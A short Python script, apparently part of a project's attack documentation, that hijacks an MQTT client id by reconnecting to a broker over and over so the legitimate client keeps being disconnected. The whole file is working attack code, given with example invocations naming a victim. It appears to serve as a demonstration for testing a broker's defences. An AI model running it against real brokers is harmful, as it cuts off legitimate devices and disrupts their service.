"""Attack: connect under the client id of somebody else, whom the broker then throws out.

    python docs/attacks/hijack.py --port 1884 front-door
    python docs/attacks/hijack.py --port 1883 --username d... --password ... VICTIM

It does so again and again; the victim that comes back throws the attacker out, and so on.
"""

import argparse
import contextlib
import time

from paho.mqtt.client import Client
from paho.mqtt.enums import CallbackAPIVersion


def main() -> None:
    """Take the client id for a while, connecting again whenever it is lost."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=1884)
    parser.add_argument("--username", help="the attacker's own device")
    parser.add_argument("--password")
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("client_id")
    options = parser.parse_args()

    end = time.monotonic() + options.seconds
    while time.monotonic() < end:
        client = Client(CallbackAPIVersion.VERSION2, client_id=options.client_id)
        if options.username:
            client.username_pw_set(options.username, options.password)
        with contextlib.suppress(OSError):
            client.connect(options.host, options.port)
        client.loop_start()
        time.sleep(0.3)
        client.loop_stop()


main()
